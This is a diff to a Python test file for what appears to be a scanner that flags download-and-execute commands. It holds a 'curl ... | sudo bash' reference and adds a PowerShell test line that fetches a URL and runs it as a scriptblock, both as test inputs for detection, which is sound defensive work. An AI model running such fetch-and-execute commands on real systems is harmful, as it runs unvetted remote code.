@@ -154,3 +154,8 @@ def test_cli_points_at_the_download_and_spans_to_the_shell(
     assert (finding["line"], finding["column"]) == (9, 9)
     assert (finding["end_line"], finding["end_column"]) == (10, 20)
     assert finding["reference"] == "curl -fsSL https://get.example.dev | sudo bash"
+
+
+def test_powershell_scriptblock_from_a_download() -> None:
+    (finding,) = _run("& ([scriptblock]::Create((iwr https://x -UseBasicParsing)))", "pwsh")
+    assert "https://x" in finding.message
